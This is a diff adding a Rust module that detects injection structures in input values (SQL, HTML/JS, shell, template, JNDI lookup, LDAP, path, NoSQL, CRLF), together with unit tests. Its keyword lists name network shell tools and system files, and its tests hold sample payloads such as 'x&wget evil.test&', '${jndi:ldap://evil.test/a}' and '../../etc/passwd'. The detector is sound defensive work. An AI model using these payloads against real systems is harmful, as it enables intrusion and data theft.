@@ -1,0 +1,638 @@
+//! What a value does in the grammars attackers target (SQL, HTML/JS, shell, templates,
+//! LDAP/JNDI lookups, file paths): small tokenisers that report *structures* (a quote closed
+//! and followed by a condition, a tag, a command after a separator, ...) as bits. A field
+//! learns the structures its normal values have; a value with a structure its field never had
+//! breaks the rules, whatever characters it is made of.
+
+/// One bit per structure, in the order of `NAMES`.
+pub const SQL_QUOTE_CONDITION: u32 = 1 << 0;
+pub const SQL_QUOTE_COMMENT: u32 = 1 << 1;
+pub const SQL_UNION_SELECT: u32 = 1 << 2;
+pub const SQL_STACKED: u32 = 1 << 3;
+pub const SQL_COMMENT_BLOCK: u32 = 1 << 4;
+pub const SQL_TAUTOLOGY: u32 = 1 << 5;
+pub const HTML_TAG: u32 = 1 << 6;
+pub const HTML_HANDLER: u32 = 1 << 7;
+pub const JS_SCHEME: u32 = 1 << 8;
+pub const JS_SINK: u32 = 1 << 9;
+pub const SHELL_COMMAND: u32 = 1 << 10;
+pub const SHELL_SUBSTITUTION: u32 = 1 << 11;
+pub const TEMPLATE: u32 = 1 << 12;
+pub const LOOKUP: u32 = 1 << 13;
+pub const LDAP_FILTER: u32 = 1 << 14;
+pub const PATH_PARENT: u32 = 1 << 15;
+pub const PATH_SYSTEM: u32 = 1 << 16;
+pub const NOSQL_OPERATOR: u32 = 1 << 17;
+pub const ENCODED_LINE_BREAK: u32 = 1 << 18;
+
+/// The name of each structure bit, as reasons show it.
+pub const NAMES: [&str; 19] = [
+    "sql: quote closed then a condition",
+    "sql: quote closed then a comment",
+    "sql: union select",
+    "sql or script: statement after ';'",
+    "sql: comment block",
+    "sql: condition on a number, constant or function",
+    "html: tag",
+    "html: event handler attribute",
+    "js: script url scheme",
+    "js: call of a script sink",
+    "shell: command after a separator",
+    "shell: command substitution",
+    "template: expression",
+    "lookup: ${...:...} expression (jndi, env)",
+    "ldap: filter injection",
+    "path: parent directory",
+    "path: system file",
+    "nosql: query operator",
+    "crlf: encoded line break",
+];
+
+/// The names of the structures in `bits`.
+pub fn names(bits: u32) -> impl Iterator<Item = &'static str> {
+    NAMES
+        .iter()
+        .enumerate()
+        .filter(move |(i, _)| bits & (1 << i) != 0)
+        .map(|(_, n)| *n)
+}
+
+/// Bytes whose presence makes a value worth tokenising; a value without any of them (and
+/// without spaces) has no structure in these grammars.
+fn is_trigger(b: u8) -> bool {
+    matches!(
+        b,
+        b'\''
+            | b'"'
+            | b'<'
+            | b'>'
+            | b';'
+            | b'|'
+            | b'&'
+            | b'$'
+            | b'`'
+            | b'{'
+            | b'}'
+            | b'('
+            | b')'
+            | b'/'
+            | b'\\'
+            | b'%'
+            | b'='
+            | b'#'
+            | b'*'
+            | b'-'
+            | b'.'
+            | b' '
+            | b':'
+    )
+}
+
+/// The structures of `value`.
+pub fn structures(value: &str) -> u32 {
+    if !value.bytes().any(is_trigger) {
+        return 0;
+    }
+    let lower = value.to_ascii_lowercase();
+    let s = lower.as_str();
+    let mut bits = sql(s);
+    bits |= markup(s);
+    bits |= shell(s);
+    bits |= other(s);
+    bits
+}
+
+/// A SQL token, as far as the patterns below need one.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Tok<'a> {
+    Word(&'a str),
+    Num,
+    Quote,
+    Op,
+    Open,
+    Close,
+    Semi,
+    Comment,
+    Other,
+}
+
+fn sql_tokens(s: &str) -> Vec<Tok<'_>> {
+    let b = s.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let start = i;
+        i += 1;
+        let tok = match c {
+            b' ' | b'\t' | b'\r' | b'\n' => continue,
+            b'\'' | b'"' | b'`' => {
+                // An apostrophe inside a word (`don't`) is no quote.
+                let inside = start > 0
+                    && b[start - 1].is_ascii_alphabetic()
+                    && b.get(i).is_some_and(|n| n.is_ascii_alphabetic());
+                if inside && c == b'\'' {
+                    Tok::Other
+                } else {
+                    Tok::Quote
+                }
+            }
+            b'-' if b.get(i) == Some(&b'-') => {
+                i += 1;
+                Tok::Comment
+            }
+            b'#' => Tok::Comment,
+            b'/' if b.get(i) == Some(&b'*') => {
+                i += 1;
+                Tok::Comment
+            }
+            b'=' | b'<' | b'>' | b'!' | b'|' | b'&' | b'+' | b'*' | b'/' | b'-' | b'%' => {
+                while i < b.len() && matches!(b[i], b'=' | b'<' | b'>' | b'|' | b'&') {
+                    i += 1;
+                }
+                Tok::Op
+            }
+            b'(' => Tok::Open,
+            b')' => Tok::Close,
+            b';' => Tok::Semi,
+            b'0'..=b'9' => {
+                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.') {
+                    i += 1;
+                }
+                Tok::Num
+            }
+            c if c.is_ascii_alphabetic() || c == b'_' || c == b'@' => {
+                while i < b.len()
+                    && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'@' | b'$'))
+                {
+                    i += 1;
+                }
+                Tok::Word(&s[start..i])
+            }
+            _ => Tok::Other,
+        };
+        out.push(tok);
+    }
+    out
+}
+
+const LOGIC: &[&str] = &[
+    "or",
+    "and",
+    "xor",
+    "union",
+    "having",
+    "like",
+    "rlike",
+    "regexp",
+    "order",
+    "group",
+    "limit",
+    "procedure",
+    "into",
+    "between",
+    "is",
+    "in",
+    "not",
+    "div",
+    "waitfor",
+];
+const LITERAL_WORDS: &[&str] = &[
+    "select",
+    "null",
+    "true",
+    "false",
+    "by",
+    "all",
+    "version",
+    "user",
+    "database",
+    "current_user",
+    "@@version",
+    "sleep",
+    "benchmark",
+    "delay",
+];
+/// Functions injected conditions call: delays, error-based extraction, conversions.
+const SQL_FUNCTIONS: &[&str] = &[
+    "sleep",
+    "pg_sleep",
+    "benchmark",
+    "extractvalue",
+    "updatexml",
+    "convert",
+    "cast",
+    "ascii",
+    "substring",
+    "substr",
+    "char",
+    "concat",
+    "load_file",
+    "version",
+    "database",
+    "user",
+    "length",
+    "if",
+    "exists",
+];
+const STATEMENTS: &[&str] = &[
+    "drop", "delete", "insert", "update", "select", "exec", "execute", "shutdown", "declare",
+    "create", "alter", "truncate", "waitfor", "return",
+];
+
+fn sql(s: &str) -> u32 {
+    let t = sql_tokens(s);
+    let mut bits = 0;
+    let skip = |mut j: usize| {
+        while matches!(t.get(j), Some(Tok::Open | Tok::Close)) {
+            j += 1;
+        }
+        j
+    };
+    let literal_at = |j: usize| match t.get(j) {
+        Some(Tok::Quote | Tok::Num) => true,
+        Some(Tok::Word(w)) => LITERAL_WORDS.contains(w) || t.get(j + 1) == Some(&Tok::Open),
+        _ => false,
+    };
+    for i in 0..t.len() {
+        match t[i] {
+            Tok::Quote => {
+                let j = skip(i + 1);
+                match t.get(j) {
+                    Some(Tok::Word(w)) if LOGIC.contains(w) && literal_at(skip(j + 1)) => {
+                        bits |= SQL_QUOTE_CONDITION
+                    }
+                    Some(Tok::Op) if literal_at(skip(j + 1)) => bits |= SQL_QUOTE_CONDITION,
+                    Some(Tok::Comment) => bits |= SQL_QUOTE_COMMENT,
+                    Some(Tok::Semi) => {
+                        if matches!(t.get(j + 1), Some(Tok::Word(w)) if STATEMENTS.contains(w)) {
+                            bits |= SQL_STACKED;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            Tok::Word("union") => {
+                let j = if t.get(i + 1) == Some(&Tok::Word("all")) {
+                    i + 2
+                } else {
+                    i + 1
+                };
+                if t.get(skip(j)) == Some(&Tok::Word("select")) {
+                    bits |= SQL_UNION_SELECT;
+                }
+            }
+            Tok::Word("select") if i > 0 && t[i - 1] == Tok::Open => bits |= SQL_UNION_SELECT,
+            Tok::Semi
+                if matches!(t.get(i + 1), Some(Tok::Word(w)) if STATEMENTS.contains(w))
+                    && t.get(i + 2).is_some() =>
+            {
+                bits |= SQL_STACKED;
+            }
+            Tok::Word("or" | "and" | "xor" | "having" | "where") => {
+                // `or 1=1`, `and 2>1`, `or true`, `and 1=convert(...)`
+                let j = skip(i + 1);
+                match (t.get(j), t.get(j + 1)) {
+                    (Some(Tok::Num | Tok::Quote), Some(Tok::Op)) if literal_at(skip(j + 2)) => {
+                        bits |= SQL_TAUTOLOGY
+                    }
+                    (Some(Tok::Word("true")), _) => bits |= SQL_TAUTOLOGY,
+                    (Some(Tok::Word(w)), Some(Tok::Open)) if SQL_FUNCTIONS.contains(w) => {
+                        bits |= SQL_TAUTOLOGY
+                    }
+                    _ => {}
+                }
+            }
+            _ => {}
+        }
+    }
+    if let Some(open) = s.find("/*") {
+        if s[open + 2..].contains("*/") {
+            bits |= SQL_COMMENT_BLOCK;
+        }
+    }
+    bits
+}
+
+const SINKS: &[&str] = &[
+    "alert(",
+    "alert`",
+    "prompt(",
+    "confirm(",
+    "eval(",
+    "fetch(",
+    "document.cookie",
+    "document.domain",
+    "document.write",
+    "window.location",
+    "fromcharcode",
+    ".innerhtml",
+    "settimeout(",
+    "setinterval(",
+    "import(",
+    "xmlhttprequest",
+];
+
+fn markup(s: &str) -> u32 {
+    let b = s.as_bytes();
+    let mut bits = 0;
+    for (i, _) in s.match_indices('<') {
+        let mut j = i + 1;
+        if b.get(j) == Some(&b'/') || b.get(j) == Some(&b'!') {
+            j += 1;
+        }
+        let name_start = j;
+        while b.get(j).is_some_and(|c| c.is_ascii_alphanumeric()) {
+            j += 1;
+        }
+        let named = j > name_start && b[name_start].is_ascii_alphabetic();
+        if named
+            && b.get(j)
+                .is_none_or(|c| matches!(c, b' ' | b'/' | b'>' | b'\t' | b'\n'))
+        {
+            bits |= HTML_TAG;
+        }
+    }
+    for (i, _) in s.match_indices("on") {
+        if i > 0 && b[i - 1].is_ascii_alphanumeric() {
+            continue;
+        }
+        let mut j = i + 2;
+        while b.get(j).is_some_and(|c| c.is_ascii_alphabetic()) {
+            j += 1;
+        }
+        let letters = j - i - 2;
+        while b.get(j) == Some(&b' ') {
+            j += 1;
+        }
+        if letters >= 3 && b.get(j) == Some(&b'=') {
+            bits |= HTML_HANDLER;
+        }
+    }
+    if ["javascript:", "vbscript:", "livescript:", "data:text/html"]
+        .iter()
+        .any(|p| s.contains(p))
+    {
+        bits |= JS_SCHEME;
+    }
+    if SINKS.iter().any(|p| s.contains(p)) {
+        bits |= JS_SINK;
+    }
+    bits
+}
+
+/// Commands that are no ordinary word: after a separator they are a command.
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "dash",
+    "python",
+    "python3",
+    "perl",
+    "php",
+    "ruby",
+    "powershell",
+    "cmd",
+    "nslookup",
+    "telnet",
+    "chmod",
+    "rm",
+    "base64",
+    "mkfifo",
+    "ifconfig",
+    "systeminfo",
+    "xp_cmdshell",
+    "passwd",
+    "busybox",
+    "tftp",
+    "ls",
+];
+/// Commands that are ordinary words too: a command only with an argument like `-x` or `/x`.
+const WORD_COMMANDS: &[&str] = &[
+    "cat", "sleep", "ping", "echo", "find", "head", "tail", "more", "less", "kill", "touch", "env",
+    "type", "dir", "net", "ps",
+];
+
+fn shell(s: &str) -> u32 {
+    let b = s.as_bytes();
+    let mut bits = 0;
+    for (i, &c) in b.iter().enumerate() {
+        let after = match c {
+            b';' | b'|' | b'&' | b'\n' | b'`' => i + 1,
+            b'$' if b.get(i + 1) == Some(&b'(') => {
+                bits |= SHELL_SUBSTITUTION;
+                i + 2
+            }
+            _ => continue,
+        };
+        let mut j = after;
+        while b
+            .get(j)
+            .is_some_and(|c| matches!(c, b' ' | b'\t' | b'|' | b'&'))
+        {
+            j += 1;
+        }
+        let start = j;
+        while b
+            .get(j)
+            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'/' | b'.'))
+        {
+            j += 1;
+        }
+        let word = &s[start..j];
+        let base = word.rsplit('/').next().unwrap_or(word);
+        let mut k = j;
+        while b.get(k) == Some(&b' ') {
+            k += 1;
+        }
+        let argument = k > j
+            && b.get(k)
+                .is_some_and(|c| matches!(c, b'-' | b'/' | b'0'..=b'9'));
+        let ends = b
+            .get(j)
+            .is_none_or(|c| matches!(c, b' ' | b';' | b'|' | b'&' | b'`' | b')'));
+        if ends && (COMMANDS.contains(&base) || (WORD_COMMANDS.contains(&base) && argument)) {
+            bits |= SHELL_COMMAND;
+        }
+    }
+    if let Some(open) = s.find('`') {
+        if s[open + 1..].find('`').is_some_and(|n| n > 0) {
+            bits |= SHELL_SUBSTITUTION;
+        }
+    }
+    bits
+}
+
+fn closes(s: &str, open: &str, close: &str) -> bool {
+    s.match_indices(open)
+        .any(|(i, _)| s[i + open.len()..].contains(close))
+}
+
+fn other(s: &str) -> u32 {
+    let mut bits = 0;
+    if closes(s, "{{", "}}")
+        || closes(s, "{%", "%}")
+        || closes(s, "${", "}")
+        || closes(s, "#{", "}")
+        || closes(s, "*{", "}")
+        || closes(s, "<%", "%>")
+    {
+        bits |= TEMPLATE;
+    }
+    if s.match_indices("${").any(|(i, _)| {
+        let rest = &s[i + 2..];
+        let end = rest.find('}').unwrap_or(rest.len()).min(48);
+        rest[..end].contains(':') || rest.starts_with("${")
+    }) {
+        bits |= LOOKUP;
+    }
+    if [")(", "(|(", "(&(", "(!("].iter().any(|p| s.contains(p)) {
+        bits |= LDAP_FILTER;
+    }
+    if s == ".."
+        || [
+            "../", "..\\", "/..", "\\..", "%2e%2e", "..%2f", "..%5c", "%2e./", ".%2e/",
+        ]
+        .iter()
+        .any(|p| s.contains(p))
+    {
+        bits |= PATH_PARENT;
+    }
+    if [
+        "/etc/",
+        "/proc/",
+        "/bin/",
+        "/dev/tcp",
+        "/usr/bin",
+        "win.ini",
+        "boot.ini",
+        "c:\\windows",
+        "\\windows\\",
+        "file:/",
+        "/var/log/",
+        "/root/",
+        ".ssh/",
+        ".htaccess",
+        "/etc%2f",
+    ]
+    .iter()
+    .any(|p| s.contains(p))
+    {
+        bits |= PATH_SYSTEM;
+    }
+    if [
+        "$ne",
+        "$gt",
+        "$lt",
+        "$regex",
+        "$where",
+        "$in",
+        "$nin",
+        "$exists",
+        "$or",
+        "$and",
+        "$expr",
+        "$function",
+        "$eq",
+    ]
+    .iter()
+    .any(|p| s.contains(p))
+    {
+        bits |= NOSQL_OPERATOR;
+    }
+    if ["%0d", "%0a", "\\r\\n", "\\u000d", "\\u000a"]
+        .iter()
+        .any(|p| s.contains(p))
+    {
+        bits |= ENCODED_LINE_BREAK;
+    }
+    bits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn has(v: &str, bit: u32) -> bool {
+        structures(v) & bit != 0
+    }
+
+    #[test]
+    fn ordinary_text_has_no_structure() {
+        for v in [
+            "kids' bike",
+            "rock & roll poster",
+            "don't starve board game",
+            "it's a gift: don't open",
+            "Tom & Jerry's flat, 3rd floor",
+            "C++ & Rust developer (he/him)",
+            "I <3 cycling and coffee",
+            "coffee first, questions later...",
+            "100% agree -- well said",
+            "not sure, but try clearing the cache; then log in again",
+            "dog & cat food",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+            "session=0af3; theme=dark",
+            "see @mods' note above",
+            "kids' or adults' bikes",
+            "Q&A thread is here",
+            "café table",
+        ] {
+            assert_eq!(
+                structures(v),
+                0,
+                "{v}: {:?}",
+                names(structures(v)).collect::<Vec<_>>()
+            );
+        }
+    }
+
+    #[test]
+    fn injections_have_their_structure() {
+        let cases: &[(&str, u32)] = &[
+            ("x' or 'a'='a", SQL_QUOTE_CONDITION),
+            ("anna' or 'x", SQL_QUOTE_CONDITION),
+            ("' or ''='", SQL_QUOTE_CONDITION),
+            ("shoes' and sleep(5) and 'a' like 'a", SQL_QUOTE_CONDITION),
+            ("x') or ('a' like 'a", SQL_QUOTE_CONDITION),
+            ("1' ORDER BY 3--+", SQL_QUOTE_CONDITION),
+            ("admin'--", SQL_QUOTE_COMMENT),
+            ("shoes union select password from users", SQL_UNION_SELECT),
+            ("1; drop table orders", SQL_STACKED),
+            ("1/**/UNION/**/SELECT/**/1,2", SQL_COMMENT_BLOCK),
+            ("1 or 1=1", SQL_TAUTOLOGY),
+            ("<script>alert(1)</script>", HTML_TAG | JS_SINK),
+            ("<b onmouseover=alert(1)>x</b>", HTML_HANDLER),
+            ("javascript:alert(1)", JS_SCHEME),
+            ("x; cat /etc/passwd", SHELL_COMMAND | PATH_SYSTEM),
+            ("a&&id", SHELL_COMMAND),
+            ("x&wget evil.test&", SHELL_COMMAND),
+            ("$(id)", SHELL_SUBSTITUTION),
+            ("`id`", SHELL_SUBSTITUTION),
+            ("{{7*7}}", TEMPLATE),
+            ("${jndi:ldap://evil.test/a}", LOOKUP),
+            ("*)(uid=*))(|(uid=*", LDAP_FILTER),
+            ("../../etc/passwd", PATH_PARENT),
+            ("..", PATH_PARENT),
+            ("{\"$ne\": null}", NOSQL_OPERATOR),
+            ("%0d%0aLocation: x", ENCODED_LINE_BREAK),
+        ];
+        for (v, bit) in cases {
+            assert!(
+                has(v, *bit),
+                "{v}: {:?}",
+                names(structures(v)).collect::<Vec<_>>()
+            );
+        }
+    }
+}
